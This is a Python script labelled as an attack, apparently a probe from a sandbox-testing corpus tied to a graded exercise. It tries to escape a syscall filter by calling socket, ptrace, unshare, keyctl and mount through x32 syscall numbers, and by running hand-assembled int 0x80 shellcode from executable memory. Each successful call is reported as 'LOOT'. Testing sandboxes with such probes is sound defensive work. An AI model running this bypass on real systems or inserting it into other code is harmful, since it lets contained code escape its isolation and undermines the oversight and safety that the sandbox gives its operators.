# attack: makes system calls by the kernel's other tables, whose numbers the filter does not list: x32, and int 0x80 of 32 bits
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import mmap
import os
import platform
import signal

libc = ctypes.CDLL(None, use_errno=True)
if platform.machine() == "x86_64":
    for name, number, arguments in (("socket", 41, (2, 1, 0)), ("ptrace", 521, (0, 0, 0, 0)), ("unshare", 272, (0x10000000,)), ("getpid", 39, ()), ("keyctl", 250, (0, -4, 1)), ("mount", 165, (0, 0, 0, 0))):
        result = libc.syscall(ctypes.c_long(0x40000000 | number), *[ctypes.c_long(a) for a in arguments])
        print("LOOT:" if result >= 0 else "no", "x32", name, os.strerror(ctypes.get_errno()))
        result = libc.syscall(ctypes.c_long(1 << 32 | number), *[ctypes.c_long(a) for a in arguments])
        print("LOOT:" if result >= 0 and name != "getpid" else "no", "64 bits", name, os.strerror(ctypes.get_errno()))
    for name, number, first in (("getpid", 20, 0), ("socketcall", 102, 1), ("unshare", 310, 0x10000000), ("ptrace", 26, 0)):
        child = os.fork()
        if child == 0:
            # push rbx; mov eax, number; mov ebx, first; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
            code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + first.to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
            area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            area.write(code)
            call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
            result = call()
            os._exit(1 if result >= 0 else 0)
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        print("LOOT: int 0x80" if status == 1 else "no", name, signal.Signals(-status).name if status < 0 else status)
print("TRIED")
